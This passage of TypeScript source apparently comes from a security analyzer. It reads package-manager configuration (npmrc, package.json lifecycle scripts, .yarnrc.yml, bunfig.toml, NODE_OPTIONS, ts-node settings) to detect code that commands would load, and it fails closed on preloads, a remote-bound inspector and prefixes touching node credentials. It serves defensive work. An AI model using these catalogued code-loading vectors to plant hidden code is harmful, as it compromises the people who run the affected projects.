            return unread(`${w}, the V8 inspector beyond loopback (it runs any code)`);
        if (valued) {
            if (value === undefined) return undefined;
            if (own.preload.test(name)) preloads.push(value);
            if (/^(-P|--project)$/.test(name)) project = posix.resolve(dir, value);
        } else if (!(own.glued.test(name) || (own.flag.test(name) && value === undefined)))
            return unread(`${w}, a ${runner} option the pack does not know`);
    }
    return undefined;
}

/**
 * ts-node's settings in tsconfig.json (`project`, else the nearest one from `dir` up, as ts-node looks for it): its
 * "ts-node" object's `require` modules added to `preloads`, its `compiler`/`transpiler` (a module doing the compiling)
 * or any option RUNNER_OPTIONS does not read as flags a reason to fail closed; so is a tsconfig.json that does not parse.
 */
function tsNodeConfig(
    project: string | undefined,
    dir: string,
    fileText: ((path: string) => string | undefined) | undefined,
    preloads: string[],
): string | undefined {
    let path = project;
    for (let d = dir; path === undefined; d = posix.dirname(d)) {
        if (fileText?.(posix.join(d, "tsconfig.json")) !== undefined) path = posix.join(d, "tsconfig.json");
        if (d === "/") break;
    }
    if (path === undefined) return undefined;
    const text = fileText?.(path.endsWith(".json") ? path : posix.join(path, "tsconfig.json"));
    if (text === undefined)
        return project === undefined ? undefined : `-P ${project}, a tsconfig.json user data does not write`;
    let settings: unknown;
    try {
        settings = (JSON.parse(jsWithoutComments(text).replace(/,(\s*[}\]])/g, "$1")) as { "ts-node"?: unknown })[
            "ts-node"
        ];
    } catch {
        return `${path}, a tsconfig.json the pack cannot parse`;
    }
    if (settings === undefined) return undefined;
    if (typeof settings !== "object" || settings === null) return `${path}: "ts-node", settings the pack cannot read`;
    for (const [key, value] of Object.entries(settings)) {
        if (key === "require" && Array.isArray(value) && value.every(v => typeof v === "string"))
            preloads.push(...value);
        else if (
            key === "compilerOptions" ||
            RUNNER_OPTIONS["ts-node"].flag.test(`--${key.replace(/[A-Z]/g, c => `-${c.toLowerCase()}`)}`)
        )
            continue;
        else return `${path}: "ts-node".${key}, an option the pack does not read`;
    }
    return undefined;
}

/** Runners of a JavaScript/TypeScript program with Node.js or its like, each read as `node` (nodeRunnerArgs). */
const NODE_RUNNERS = /^(node|nodejs|tsx|ts-node|ts-node-esm|bun|deno|pm2|nodemon|npx|npm|pnpm|bunx|yarn)$/;
/** Options of nodemon that take a value (nodemon README, "Usage"; `nodemon --help options`). */
const NODEMON_VALUE_OPTIONS = /^(-w|--watch|-e|--ext|-i|--ignore|-x|--exec|-d|--delay|-s|--signal|--config)$/;

/**
 * The options of the package managers whose run-scripts packageScripts reads, before or after the command: `dir` those
 * naming the package's directory (npm docs "config": `prefix`, "-C"; Yarn 1 `--cwd`; pnpm `--dir`/`-C`; Bun
 * `--cwd`), `value` others taking a value, `flag` those taking none. Any other (a workspace or filter selecting
 * another package, `--script-shell`, `--node-options`, a config file) fails closed when it runs a script.
 */
const PACKAGE_MANAGER_OPTIONS: Record<string, { dir: RegExp; value: RegExp; flag: RegExp }> = {
    npm: {
        dir: /^(--prefix|-C)$/,
        value: /^(--loglevel|--cache|--omit|--include)$/,
        flag: /^(--if-present|--silent|-s|--quiet|-q|--yes|-y|--ignore-scripts|--foreground-scripts|--verbose|-d|--no-color|--no-audit|--no-fund|--no-update-notifier|--no-progress|--production|--legacy-peer-deps|--prefer-offline)$/,
    },
    // Install flags: Yarn 1 "yarn install" (--frozen-lockfile, --pure-lockfile, --production/--prod, --ignore-scripts,
    // --ignore-engines, --prefer-offline, --check-files), Yarn 2+ "yarn install" (--immutable, --immutable-cache,
    // --check-cache, --inline-builds); pnpm "pnpm install" (--frozen-lockfile, --prefer-frozen-lockfile, -P/--prod,
    // --production, -D/--dev, --no-optional, --ignore-scripts, --prefer-offline, --offline).
    yarn: {
        dir: /^--cwd$/,
        value: /^$/,
        flag: /^(--silent|-s|--verbose|--no-progress|--non-interactive|--offline|--frozen-lockfile|--pure-lockfile|--production|--prod|--ignore-scripts|--ignore-engines|--prefer-offline|--check-files|--immutable|--immutable-cache|--check-cache|--inline-builds)$/,
    },
    pnpm: {
        dir: /^(--dir|-C)$/,
        value: /^(--reporter|--loglevel)$/,
        flag: /^(--silent|-s|--if-present|--stream|--no-bail|--bail|--use-stderr|--frozen-lockfile|--no-frozen-lockfile|--prefer-frozen-lockfile|-P|--prod|--production|-D|--dev|--no-optional|--ignore-scripts|--prefer-offline|--offline)$/,
    },
    bun: { dir: /^--cwd$/, value: /^$/, flag: /^(--silent|--bun|--if-present)$/ },
};

/** npm ci and npm install with their aliases (npm docs "npm ci", "npm install": Aliases). */
const NPM_INSTALLS =
    /^(ci|clean-install|ic|install-clean|isntall-clean|install|add|i|in|ins|inst|insta|instal|isnt|isnta|isntal|isntall)$/;
/**
 * The global prefix of `npm install -g|--global|--location=global NAME...` (args after `npm`), undefined for any other
 * command. Global mode "Operates in 'global' mode, so that packages are installed into the prefix folder instead of the
 * current working directory": {prefix}/lib/node_modules, bins linked to {prefix}/bin (npm docs "config", `global`;
 * "folders"); the prefix is --prefix's, else /usr/local (npm docs "npm prefix": `npm prefix -g` /usr/local; Fedora's
 * and AL2023's npm set it there). The working directory's package.json and its scripts are not read: only the named
 * packages', third-party code like `dnf install`'s (npmInstallWrites). Each package must be a registry name (optionally
 * @version or @tag): a path (`.`, `./pkg`, `/opt/pkg`, `file:`), tarball, git or URL spec, an alias, or no package at all
 * (which installs the working directory's package globally, its lifecycle scripts run) is not a global install here.
 */
function npmGlobalPrefix(
    args: readonly string[],
    cwd: string | undefined,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): string | undefined {
    const options = PACKAGE_MANAGER_OPTIONS.npm;
    let global = false;
    // The configured prefix (npmConfig: the environment's npm_config_prefix, then the user's, global and builtin
    // npmrc; the project's is not read in global mode), else /usr/local; one the pack cannot compute is no known
    // global install (fail closed).
    const configured = npmConfig("prefix", fileText, view);
    if (configured !== undefined && !npmPrefixKnown(configured)) return undefined;
    let prefix = configured ?? "/usr/local";
    const operands: string[] = [];
    for (let i = 0; i < args.length; i++) {
        const w = args[i];
        if (!w.startsWith("-") || w === "-") {
            operands.push(w);
            continue;
        }
        const [, name, glued] = /^(-[^-=]|--[^=]+)(?:=([\s\S]*))?$/.exec(w) ?? [undefined, w, undefined];
        if (name === "--location") {
            const value = glued ?? args[++i];
            if (value !== "global") return undefined;
            global = true;
        } else if ((name === "-g" || name === "--global") && glued === undefined) global = true;
        else if (options.dir.test(name) || options.value.test(name)) {
            const value = glued ?? args[++i];
            if (value === undefined) return undefined;
            if (options.dir.test(name)) {
                if (name !== "--prefix" || (cwd === undefined && !value.startsWith("/"))) return undefined;
                prefix = posix.resolve(cwd ?? "/", value);
            }
        } else if (!options.flag.test(name) || glued !== undefined) return undefined;
    }
    const [command, ...packages] = operands;
    const registryName = (p: string) =>
        /^(@[a-z0-9][\w.~-]*\/)?[a-z0-9][\w.~-]*(@[^\s/:@]+)?$/i.test(p) && !/\.(tgz|tar|tar\.gz)$/i.test(p);
    return global &&
        NPM_INSTALLS.test(command ?? "") &&
        !PACKAGE_INSTALLS.npm.clean.test(command) &&
        packages.length > 0 &&
        packages.every(registryName)
        ? prefix
        : undefined;
}
/**
 * Whether a global prefix from npm's configuration is one npm may write (npmGlobalPrefix): an absolute path whose
 * {prefix}/lib/node_modules and {prefix}/bin hold none of the node's secrets (podSpec.ts holdsNodeSecrets: the kubelet's
 * credentials directory /etc/kubernetes included), which --prefix's own word is judged for by rootReads.ts.
 */
const npmPrefixKnown = (prefix: string) =>
    prefix.startsWith("/") && ![prefix, `${prefix}/lib/node_modules`, `${prefix}/bin`].some(holdsNodeSecrets);
/**
 * Each package manager's installs (PACKAGE_MANAGER_OPTIONS names its options) and what they write besides DIR/node_modules
 * (npmInstallWrites): `commands` its install commands, `clean` those that never write the lock file (npm docs "npm ci":
 * "will never write to package.json or any of the package-locks"), `lock` its lock file, `files` and `trees` other
 * writes in DIR, `home` its store and caches of root (writing more is failing closed).
 * - npm: NPM_INSTALLS.
 * - pnpm: `pnpm install` (alias `i`) and `pnpm add` (pnpm docs "pnpm install", "pnpm add"): pnpm-lock.yaml, the
 *   virtual store node_modules/.pnpm, the store and cache (pnpm docs "settings": store-dir "~/.local/share/pnpm/store"
 *   on Linux, cache-dir "~/.cache/pnpm").
 * - yarn: `yarn`, `yarn install`, `yarn add` (Yarn 1 "yarn install": "yarn install is used to install all
 *   dependencies", "Running yarn with no command will run yarn install"; Yarn 2+ alike): yarn.lock, Yarn 2+'s .yarn
 *   (cache, install state) and Plug'n'Play loader (.pnp.cjs, .pnp.loader.mjs; Yarn 2 .pnp.js), Yarn 1's cache
 *   (/usr/local/share/.cache/yarn for root) and Yarn 2+'s global folder (~/.yarn/berry).
 */
const PACKAGE_INSTALLS: Record<
    string,
    { commands: RegExp; clean: RegExp; lock: string; files: string[]; trees: string[]; home: string[] }
> = {
    npm: {
        commands: NPM_INSTALLS,
        clean: /^(ci|clean-install|ic|install-clean|isntall-clean)$/,
        lock: "package-lock.json",
        files: [],
        trees: [],
        home: [],
    },
    pnpm: {
        commands: /^(install|i|add)$/,
        clean: /^$/,
        lock: "pnpm-lock.yaml",
        files: [],
        trees: [],
        home: ["/root/.local/share/pnpm", "/root/.cache/pnpm"],
    },
    yarn: {
        commands: /^(install|add)$/,
        clean: /^$/,
        lock: "yarn.lock",
        files: [".pnp.cjs", ".pnp.loader.mjs", ".pnp.js"],
        trees: [".yarn"],
        home: ["/usr/local/share/.cache/yarn", "/root/.cache/yarn", "/root/.yarn"],
    },
};
/**
 * The root package's scripts an install runs, in order (npm docs "scripts", "Life Cycle Operation Order"); read for
 * pnpm and yarn alike (pnpm docs "pnpm install" runs the root's preinstall, install, postinstall, prepare; Yarn 1 the
 * same and prepublish; Yarn 2+ "Lifecycle Scripts" fewer): a superset, which fails closed.
 */
const NPM_LIFECYCLE = ["preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare"];

/**
 * The run-scripts a package manager's command runs, from package.json in the package's directory `dir` (the working
 * directory or the one its options name), undefined when it runs none or the pack cannot read the file: `main` the
 * command line of the script asked for, with the arguments given after its name (npm docs "npm run-script": "Any
 * positional arguments are passed to the specified script"), and `around` every script run with it, [name, command
 * line]; `unread` when an option the pack does not know comes with a script run (fail closed).
 * - npm: `start` (by default `node server.js`, npm docs "npm start"), `stop`, `restart` ("npm restart": its restart
 *   script, else stop's and start's), `test` (`tst`, `t`), `run NAME` (`run-script`, `rum`, `urn`); each with its pre
 *   and post scripts (npm docs "scripts", "Pre & Post Scripts", "Life Cycle Operation Order").
 * - yarn: `yarn run NAME`, `yarn start|test|stop|restart`, and `yarn NAME` of a script (Yarn 1 "yarn run": "yarn
 *   <script> [<args>]" runs pre and post scripts too; Yarn 2+ does not: which one runs is unknown, so they are read).
 * - pnpm: `pnpm start` (by default `node server.js`, pnpm docs "pnpm start"), `test` (`t`, `tst`), `restart` ("Runs
 *   stop, restart, and start scripts"), `run NAME` and `pnpm NAME` of a script; pre and post scripts run when
 *   enable-pre-post-scripts is on (pnpm/pnpm#2891: off from v6.0, the setting since v6.1, on by default in later
 *   releases; a project's .npmrc may set it), so they are read.
 * - bun: `bun run NAME` and `bun NAME` of a script (Bun docs "bun run"), pre and post scripts read alike.
 * - npm ci/install (NPM_INSTALLS): no `main`, `around` the root package's lifecycle scripts (NPM_LIFECYCLE) unless
 *   --ignore-scripts; the dependencies' own scripts are not read (npmInstallWrites).
 */
function packageScripts(
    program: string,
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView = NO_VIEW,
): { dir: string; main: string | undefined; around: [string, string][]; unread?: string } | undefined {
    if (program === "deno") return denoTask(args, cwd, fileText);
    const options = PACKAGE_MANAGER_OPTIONS[program];
    if (options === undefined) return undefined;
    let dir = cwd;
    let unknown: string | undefined;
    const words: string[] = [];
    let passed = false;
    for (let i = 0; i < args.length; i++) {
        const w = args[i];
        // After `--`, or past the script's name for all but npm (which reads its own options there too), the script's.
        if (passed || !w.startsWith("-") || w === "-") {
            words.push(w);
            if (program !== "npm" && words.length >= (/^(run|run-script|rum|urn)$/.test(words[0]) ? 2 : 1))
                passed = true;
            continue;
        }
        if (w === "--") {
            passed = true;
            continue;
        }
        const [, name, glued] = /^(-[^-=]|--[^=]+)(?:=([\s\S]*))?$/.exec(w) ?? [undefined, w, undefined];
        if (options.dir.test(name) || options.value.test(name)) {
            const value = glued ?? args[++i];
            if (options.dir.test(name))
                dir =
                    value === undefined || (cwd === undefined && !value.startsWith("/"))
                        ? undefined
                        : posix.resolve(cwd ?? "/", value);
        } else if (!options.flag.test(name) || glued !== undefined) unknown ??= w;
    }
    // A global install of anything but registry packages (`.`, `file:`, a path, a tarball, none: the working
    // directory's package) runs that package's lifecycle scripts, wherever it is run from (npmGlobalPrefix): fail closed.
    const globally = program === "npm" ? args.find(w => /^(-g|--global|--location(=.*)?)$/.test(w)) : undefined;
    // The prefix npm's configuration gives it (npmConfig), when it is one npm must not write or the pack cannot compute.
    const prefix = globally === undefined ? undefined : npmConfig("prefix", fileText, view);
    if (
        globally !== undefined &&
        NPM_INSTALLS.test(words[0] ?? "") &&
        (prefix !== undefined && !npmPrefixKnown(prefix)
            ? !args.some(w => /^--prefix(=|$)/.test(w))
            : !args.includes("--ignore-scripts") && npmGlobalPrefix(args, cwd, fileText, view) === undefined)
    )
        return {
            dir: dir ?? "/",
            main: undefined,
            around: [],
            unread:
                prefix !== undefined && !npmPrefixKnown(prefix)
                    ? `${globally} with npm's configured prefix ${prefix || "(a value the pack cannot compute)"} (npm_config_prefix or an npmrc's prefix=): npm writes {prefix}/lib/node_modules and {prefix}/bin (npm docs "folders"), the node's secrets or a place the pack cannot know`
                    : `${globally}, a npm global install of a package the pack does not read`,
        };
    if (dir === undefined) return undefined;
    const code = packageManagerCode(program, dir, fileText, view, words[0]);
    if (code !== undefined) return { dir, main: undefined, around: [], unread: code };
    const json = fileText?.(posix.join(dir, "package.json"));
    if (json === undefined) return undefined;
    let scripts: Record<string, unknown> | undefined;
    try {
        scripts = (JSON.parse(json) as { scripts?: Record<string, unknown> }).scripts;
    } catch {
        return undefined;
    }
    const given = (script: string) => (typeof scripts?.[script] === "string" ? (scripts[script] as string) : undefined);
    const line = (script: string) =>
        given(script) ?? (script === "start" && program !== "bun" ? "node server.js" : undefined);
    const [command, name] = words;
    // npm ci/install, pnpm install and yarn install (PACKAGE_INSTALLS) run the root package's lifecycle scripts (npm
    // docs "scripts", "Life Cycle Operation Order": preinstall, install, postinstall, prepublish, preprepare, prepare,
    // postprepare), unless --ignore-scripts; an option the pack does not know may be another package or a script shell
    // (fail closed). The options after the command are install options (npmInstallWrites reads them all).
    const installs = PACKAGE_INSTALLS[program];
    if (
        installs !== undefined &&
        (installs.commands.test(command ?? "") || (program === "yarn" && command === undefined))
    ) {
        if (args.includes("--ignore-scripts")) return undefined;
        // A global install of registry packages runs none of the working directory's scripts (npmGlobalPrefix).
        if (program === "npm" && npmGlobalPrefix(args, cwd, fileText, view) !== undefined) return undefined;
        if (unknown === undefined && npmInstallWrites([program, ...args], cwd, fileText, view) === undefined)
            unknown = args.find(w => w.startsWith("-")) ?? command;
        if (unknown !== undefined)
            return {
                dir,
                main: undefined,
                around: [],
                unread: `${unknown}, a ${program} option the pack does not know`,
            };
        const around = NPM_LIFECYCLE.flatMap((s): [string, string][] => {
            const text = given(s);
            return text === undefined ? [] : [[s, text]];
        });
        return around.length === 0 ? undefined : { dir, main: undefined, around };
    }
    const named = (
        program === "npm" ? /^(run|run-script|rum|urn)$/ : program === "pnpm" ? /^(run|run-script)$/ : /^run$/
    ).test(command ?? "");
    const asked = named
        ? name
        : /^(t|tst)$/.test(command ?? "") && program !== "bun" && given(command) === undefined
          ? "test"
          : /^(start|stop|restart|test)$/.test(command ?? "") && program !== "bun"
            ? command
            : program !== "npm" && command !== undefined && given(command) !== undefined
              ? command
              : undefined;
    // An option the pack does not know may be one taking the next word as its value: any script word after it counts.
    if (
        unknown !== undefined &&
        (asked !== undefined ||
            words.some(w => /^(start|stop|restart|test|t|tst|run|run-script)$/.test(w) || given(w) !== undefined))
    )
        return { dir, main: undefined, around: [], unread: `${unknown}, a ${program} option the pack does not know` };
    if (asked === undefined || (program === "bun" && given(asked) === undefined)) return undefined;
    const rest = words.slice(named ? 2 : 1).map(w => `'${w.replace(/'/g, "'\\''")}'`);
    const runs =
        asked !== "restart"
            ? [asked]
            : line("restart") === undefined
              ? ["stop", "start"]
              : program === "npm"
                ? ["restart"]
                : ["stop", "restart", "start"];
    const main = runs.at(-1)!;
    const around = runs
        .flatMap(s => [`pre${s}`, s, `post${s}`])
        .filter(s => s !== main)
        .flatMap((s): [string, string][] => {
            const text = line(s);
            return text === undefined ? [] : [[s, text]];
        });
    const text = line(main);
    return { dir, main: text === undefined ? undefined : [text, ...rest].join(" "), around };
}

/**
 * npm's configuration files after the project's (npm docs "npmrc", "Files": per-project, per-user ~/.npmrc or
 * `userconfig`, global $PREFIX/etc/npmrc or `globalconfig`, and the "npm builtin config file (/path/to/npm/npmrc)"),
 * for root: /root/.npmrc, the global one of each prefix npm may have (/usr for AL2023's nodejs-npm, /usr/local,
 * /etc/npmrc), and the builtin one of each place npm is installed; `userconfig`/`globalconfig`/`prefix` from the
 * environment (npmEnvironment) name others, and one the pack cannot compute is undefined (fail closed).
 */
function npmrcFiles(
    view: ScriptView,
    fileText?: (path: string) => string | undefined,
    project: readonly string[] = [],
): (string | undefined)[] {
    // A key set in the files read before (npm docs "npmrc": "Global config file: $PREFIX/etc/npmrc (or the
    // globalconfig param, if set above)"): the project's npmrc may name the user and global ones, both the global one.
    // A value that is no absolute path is one the pack cannot compute.
    const fromFiles = (key: string, files: readonly (string | undefined)[]) =>
        files.flatMap(f =>
            f === undefined
                ? []
                : npmrcEntries(fileText?.(f) ?? "")
                      .filter(e => e.key === key)
                      .map(e => (/^\/[^$`"'~]*$/.test(e.value) ? posix.normalize(e.value) : undefined)),
        );
    const named = (key: string, files: readonly (string | undefined)[]) => [
        ...(npmEnvironment(key, view) ?? []),
        ...fromFiles(key, files),
    ];
    const users = [...named("userconfig", project), "/root/.npmrc"];
    const before = [...project, ...users];
    return [
        ...users,
        ...named("globalconfig", before),
        ...named("prefix", before).map(p => (p === undefined ? p : posix.join(p, "etc/npmrc"))),
        "/etc/npmrc",
        "/usr/etc/npmrc",
        "/usr/local/etc/npmrc",
        "/usr/lib/node_modules/npm/npmrc",
        "/usr/lib64/node_modules/npm/npmrc",
        "/usr/local/lib/node_modules/npm/npmrc",
    ];
}
/**
 * The values the script's environment gives npm configuration KEY (npm docs "config", "Environment Variables": "Any
 * environment variables that start with npm_config_ will be interpreted as a configuration parameter", case
 * insensitive, `-` as `_`), undefined each one the pack cannot compute (not an absolute path: ScriptView); undefined
 * when none does. The pack cannot tie an assignment to a process: every one counts.
 */
function npmEnvironment(key: string, view: ScriptView): (string | undefined)[] | undefined {
    const name = `npm_config_${key.replace(/-/g, "_")}`.toLowerCase();
    const values = [...view.environment].filter(([k]) => k.toLowerCase() === name).flatMap(([, v]) => v);
    return values.length > 0 ? [...new Set(values)] : undefined;
}
/**
 * npm configuration KEY as npm finds it (npm docs "config": the environment before the files, npmrcFiles in order),
 * "" when the pack cannot compute it, undefined when nothing sets it.
 */
function npmConfig(
    key: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): string | undefined {
    const env = npmEnvironment(key, view);
    if (env !== undefined) return env.length === 1 && env[0] !== undefined ? env[0] : "";
    for (const path of npmrcFiles(view, fileText)) {
        if (path === undefined) return "";
        const m = npmrcEntries(fileText?.(path) ?? "").find(e => e.key === key);
        if (m) return /^\/[^$`"'~]*$/.test(m.value) ? posix.normalize(m.value) : "";
    }
    return undefined;
}

/**
 * An npmrc file's entries as npm reads them (npm docs "npmrc": "an ini-formatted list of key = value parameters",
 * parsed by the `ini` package: `;`/`#` comments, keys and values unquoted, `key[]` an array; a `[section]`'s keys
 * counted too, fail closed), keys lower-cased with `_` as `-` (npm's own spellings are kebab-case; fail closed).
 */
function npmrcEntries(text: string): { key: string; value: string; line: string }[] {
    const unquote = (v: string) => {
        const t = v.trim();
        if (/^"[\s\S]*"$/.test(t) || /^'[\s\S]*'$/.test(t)) {
            try {
                return t.startsWith('"') ? (JSON.parse(t) as string) : t.slice(1, -1);
            } catch {
                return t.slice(1, -1);
            }
        }
        return t;
    };
    return text.split(/\r?\n/).flatMap(line => {
        if (/^\s*([;#]|\[[^\]]*\]\s*$|$)/.test(line)) return [];
        const m = /^\s*("(?:\\.|[^"\\])*"|'[^']*'|[^=]*?)\s*(?:=\s*(.*))?$/.exec(line);
        if (!m) return [];
        const key = unquote(m[1]).replace(/\[\]$/, "").toLowerCase().replace(/_/g, "-");
        return [{ key, value: unquote(m[2] ?? "true"), line: line.trim() }];
    });
}

/**
 * What a node-options value (npm's `node-options`, pnpm's `nodeOptions`: passed to every script's node as
 * NODE_OPTIONS) loads, read as node reads NODE_OPTIONS (NODE_VALUE_OPTIONS, NODE_FLAG_OPTIONS): the first option
 * naming code (NODE_PRELOAD_OPTIONS, --env-file, the inspector beyond loopback), an option the pack does not know or
 * a word no option takes (fail closed); undefined when it only sets limits and flags (--max-old-space-size).
 */
function nodeOptionsLoading(value: string | undefined): string | undefined {
    if (value === undefined) return "(a value the pack cannot compute)";
    const words = quotedWords(value);
    for (let i = 0; i < words.length; i++) {
        const w = words[i];
        const option = /^(-[^-=]|--[^=]+)(?:=([\s\S]*))?$/.exec(w);
        if (!option) return w;
        const name = option[1].replace(/(?<=^--.*)_/g, "-");
        const valued = NODE_VALUE_OPTIONS.test(name) || NODE_EXPERIMENTAL_VALUE_OPTIONS.test(name);
        const given = option[2] ?? (valued ? words[++i] : undefined);
        if (NODE_PRELOAD_OPTIONS.test(name) || /^--(env-file|env-file-if-exists|experimental-policy)$/.test(name))
            return w;
        if (
            /^--(inspect|inspect-brk|inspect-wait|inspect-port|debug-port)$/.test(name) &&
            given !== undefined &&
            !/^((127\.0\.0\.1|localhost|\[::1\]):)?\d*$/.test(given)
        )
            return w;
        if (
            valued
                ? given === undefined
                : !NODE_FLAG_OPTIONS.test(name) ||
                  (given !== undefined && !/^--(inspect|inspect-brk|inspect-wait)$/.test(name))
        )
            return w;
    }
    return undefined;
}

/**
 * Package-manager configuration user data wrote or set that runs code or changes how scripts run, for every command
 * of the manager in `dir` (fail closed: the pack does not read it):
 * - npm docs "config" (read by npm, pnpm and Yarn 1 from the project's .npmrc and npmrcFiles, and the environment's
 *   npm_config_*: npmEnvironment): `node-options` ("Options to pass through to Node.js via the NODE_OPTIONS
 *   environment variable": --require any module), `script-shell` (the shell running every script); pnpm's
 *   `pnpmfile`/`global-pnpmfile`; an npmrc file the pack cannot name;
 * - pnpm docs ".pnpmfile.cjs": hooks loaded with require on every install, from the project's root, which in a
 *   workspace is the directory of pnpm-workspace.yaml above `dir` (pnpm docs "pnpm-workspace.yaml"): any parent's
 *   .pnpmfile.cjs/.pnpmfile.mjs is read;
 * - Yarn docs ".yarnrc.yml": `yarnPath` ("this file will be executed instead of any other"), `plugins` (code loaded
 *   by every command), `injectEnvironmentFiles`; Yarn 1 `.yarnrc` `yarn-path`. Both found in `dir` or any parent; and
 *   the environment's YARN_* ("settings can also be defined through environment variables": YARN_YARN_PATH,
 *   YARN_PLUGINS, YARN_INJECT_ENVIRONMENT_FILES, and YARN_RC_FILENAME naming another rc file);
 * - Bun docs "bunfig.toml": `preload` ("An array of scripts/plugins to execute before running a file or script", at
 *   the top level or under [run]/[test]) and `plugins`, from the project's bunfig.toml or the global
 *   $HOME/.bunfig.toml, $XDG_CONFIG_HOME/.bunfig.toml.
 */
function packageManagerCode(
    program: string,
    dir: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView = NO_VIEW,
    command?: string,
): string | undefined {
    const text = (path: string) => fileText?.(path);
    const parents: string[] = [];
    for (let d = dir; ; d = posix.dirname(d)) {
        parents.push(d);
        if (d === "/") break;
    }
    // node-options is read as node reads NODE_OPTIONS (nodeOptionsLoading): a heap limit loads nothing.
    const loads = (key: string, value: string | undefined) =>
        !/^node-?options$/i.test(key) || nodeOptionsLoading(value) !== undefined;
    for (const key of ["node-options", "script-shell", "pnpmfile", "global-pnpmfile"])
        if ((npmEnvironment(key, view) ?? []).some(v => loads(key, v)))
            return `npm_config_${key.replace(/-/g, "_")} in the environment, code every ${program} script runs (npm docs "config")`;
    // The project's .npmrc is the one of the project root npm finds walking up (npm docs "config", "workspaces": a
    // workspace's root package above it), pnpm's workspace root alike: every parent's is read (fail closed).
    const project = parents.map(d => posix.join(d, ".npmrc"));
    const npmrcs = [...project, ...npmrcFiles(view, fileText, project)];
    for (const path of npmrcs) {
        if (path === undefined)
            return `an npmrc file the environment or an npmrc names (userconfig, globalconfig or prefix) the pack cannot compute (npm docs "config")`;
        const entry = npmrcEntries(text(path) ?? "").find(
            e => /^(node-options|script-shell|(global-)?pnpmfile)$/.test(e.key) && loads(e.key, e.value),
        );
        if (entry) return `${path}: ${entry.line}, code every ${program} script runs (npm docs "config")`;
    }
    // pnpm 10 (pnpm docs "Settings (pnpm-workspace.yaml)": settings other than auth and registry are read from
    // pnpm-workspace.yaml, and the global ~/.config/pnpm/config.yaml): nodeOptions (every script's NODE_OPTIONS),
    // scriptShell, pnpmfile and globalPnpmfile (hooks required on install), in either spelling; a value the pack
    // cannot read as a plain scalar fails closed.
    if (program === "pnpm")
        for (const path of [
            ...parents.map(d => posix.join(d, "pnpm-workspace.yaml")),
            "/root/.config/pnpm/config.yaml",
        ])
            for (const m of (text(path) ?? "").matchAll(
                /^\s*["']?(nodeOptions|node-options|scriptShell|script-shell|pnpmfile|globalPnpmfile|global-pnpmfile)["']?\s*:(.*)$/gm,
            )) {
                const scalar = /^\s*("[^"]*"|'[^']*'|[^\s"'#][^#]*?)?\s*(#.*)?$/.exec(m[2])?.[1];
                if (loads(m[1], scalar?.replace(/^["']|["']$/g, "")))
                    return `${path}: ${m[0].trim()}, code every pnpm script or install runs (pnpm docs "Settings")`;
            }
    if (program === "pnpm")
        for (const d of parents)
            for (const name of [".pnpmfile.cjs", ".pnpmfile.mjs"])
                if (text(posix.join(d, name)) !== undefined)
                    return `${posix.join(d, name)}, hooks pnpm loads on install (pnpm docs ".pnpmfile.cjs")`;
    if (program === "yarn") {
        // Yarn's environment names are compared lower-cased (Yarn's Configuration, ENVIRONMENT_PREFIX `yarn_`).
        const set = [...view.environment.keys()].find(k =>
            /^YARN_(YARN_PATH|PLUGINS|INJECT_ENVIRONMENT_FILES|RC_FILENAME)$/i.test(k),
        );
        if (set !== undefined)
            return `${set} in the environment, code yarn runs or a configuration file it reads (Yarn docs "Configuration")`;
        for (const d of parents) {
            const yml = /^\s*(yarnPath|plugins|injectEnvironmentFiles)\s*:.*$/m.exec(
                text(posix.join(d, ".yarnrc.yml")) ?? "",
            );
            const rc = /^\s*yarn-path\b.*$/m.exec(text(posix.join(d, ".yarnrc")) ?? "");
            const found = yml ?? rc;
            if (found)
                return `${posix.join(d, yml ? ".yarnrc.yml" : ".yarnrc")}: ${found[0].trim()}, code yarn runs as itself (Yarn docs ".yarnrc.yml")`;
        }
    }
    if (program === "bun")
        for (const path of [
            posix.join(dir, "bunfig.toml"),
            "/root/.bunfig.toml",
            "/root/.config/.bunfig.toml",
            ...(view.environment.get("XDG_CONFIG_HOME") ?? []).map(x => x && posix.join(x, ".bunfig.toml")),
        ]) {
            if (path === undefined)
                return `$XDG_CONFIG_HOME/.bunfig.toml, a bunfig the pack cannot name (Bun docs "bunfig.toml")`;
            const line = bunfigCode(text(path) ?? "", command === "test");
            if (line) return `${path}: ${line}, code bun runs first (Bun docs "bunfig.toml")`;
        }
    return undefined;
}

/**
 * The line of a bunfig.toml setting code bun runs first (Bun docs "bunfig.toml": `preload`, "An array of
 * scripts/plugins to execute before running a file or script", and `plugins`, at the top level or under [run]; under
 * [test] only for `bun test`), keys read as TOML reads them (TOML v1.0 "Keys": dotted and quoted keys, `[table]`
 * headers, an inline table `run = { preload = [...] }`); any other table naming preload/plugins fails closed.
 */
function bunfigCode(text: string, test: boolean): string | undefined {
    const key = (k: string) =>
        [...k.matchAll(/\s*("(?:\\.|[^"\\])*"|'[^']*'|[^.\s]+)\s*(?:\.|$)/g)].map(p =>
            p[1].replace(/^["']|["']$/g, ""),
        );
    let table: string[] = [];
    for (const raw of text.split(/\r?\n/)) {
        const l = raw.replace(/(^|\s)#.*$/, "");
        const header = /^\s*\[\[?([^\]]*)\]\]?\s*$/.exec(l);
        if (header) {
            table = key(header[1]);
            continue;
        }
        const m =
            /^\s*((?:"(?:\\.|[^"\\])*"|'[^']*'|[^=\s"']+)(?:\s*\.\s*(?:"(?:\\.|[^"\\])*"|'[^']*'|[^=\s."']+))*)\s*=(.*)$/.exec(
                l,
            );
        if (!m) continue;
        const path = [...table, ...key(m[1])];
        const last = path.at(-1) ?? "";
        const names = /^(preload|plugins)$/.test(last) || /\b(preload|plugins)\b/.test(m[2]);
        if (names && (test || path[0] !== "test")) return raw.trim();
    }
    return undefined;
}

/**
 * `deno task NAME [args]` (Deno docs "deno task": the tasks of deno.json/deno.jsonc, a command line or an object's
 * `command`, found from the working directory up; without a deno.json, package.json's scripts): read as packageScripts
 * reads a run-script (`main`); an option, a task the pack cannot find, or a file it cannot parse is unread.
 */
function denoTask(
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
): ReturnType<typeof packageScripts> {
    if (args[0] !== "task" || cwd === undefined) return undefined;
    const [name, ...rest] = args.slice(1);
    const unread = (why: string) => ({ dir: cwd, main: undefined, around: [], unread: why });
    if (name === undefined || name.startsWith("-"))
